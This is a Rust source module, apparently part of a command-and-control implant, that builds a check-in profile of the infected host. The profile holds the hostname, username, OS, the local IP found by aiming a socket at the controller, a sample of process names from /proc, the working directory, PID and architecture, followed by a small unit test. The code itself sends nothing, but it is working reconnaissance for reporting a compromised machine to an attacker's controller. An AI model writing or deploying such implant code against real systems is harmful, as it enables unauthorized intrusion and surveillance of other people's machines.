//! Host facts gathered for check-in.

use std::net::UdpSocket;

use burrow::messages::HostProfile;

/// Bound on the process-name sample shipped at check-in.
const PROCESS_SAMPLE: usize = 10;

/// Collects the check-in record. Fields that cannot be read degrade to
/// `"unknown"` rather than failing the check-in.
pub fn collect(c2_address: &str) -> HostProfile {
    HostProfile {
        hostname: hostname::get()
            .ok()
            .and_then(|h| h.into_string().ok())
            .unwrap_or_else(|| "unknown".to_string()),
        username: whoami::username(),
        os: whoami::distro(),
        ip: primary_address(c2_address),
        processes: process_sample(),
        directory: std::env::current_dir()
            .map(|d| d.display().to_string())
            .unwrap_or_else(|_| "unknown".to_string()),
        pid: std::process::id(),
        arch: std::env::consts::ARCH.to_string(),
    }
}

/// Source address of a socket pointed at the controller; nothing is sent.
fn primary_address(c2_address: &str) -> String {
    let target = format!("{c2_address}:53");
    UdpSocket::bind("0.0.0.0:0")
        .and_then(|socket| {
            socket.connect(target)?;
            socket.local_addr()
        })
        .map(|addr| addr.ip().to_string())
        .unwrap_or_else(|_| "unknown".to_string())
}

#[cfg(target_os = "linux")]
fn process_sample() -> Vec<String> {
    let mut names = Vec::new();
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return names;
    };

    for entry in entries.flatten() {
        if names.len() == PROCESS_SAMPLE {
            break;
        }
        let file_name = entry.file_name();
        let Some(pid) = file_name
            .to_str()
            .filter(|name| name.bytes().all(|b| b.is_ascii_digit()))
        else {
            continue;
        };
        if let Ok(comm) = std::fs::read_to_string(format!("/proc/{pid}/comm")) {
            names.push(comm.trim().to_string());
        }
    }

    names
}

#[cfg(not(target_os = "linux"))]
fn process_sample() -> Vec<String> {
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn collects_a_usable_profile() {
        let profile = collect("127.0.0.1");
        assert!(!profile.hostname.is_empty());
        assert!(!profile.username.is_empty());
        assert!(profile.pid > 0);
        assert!(profile.processes.len() <= PROCESS_SAMPLE);
    }
}
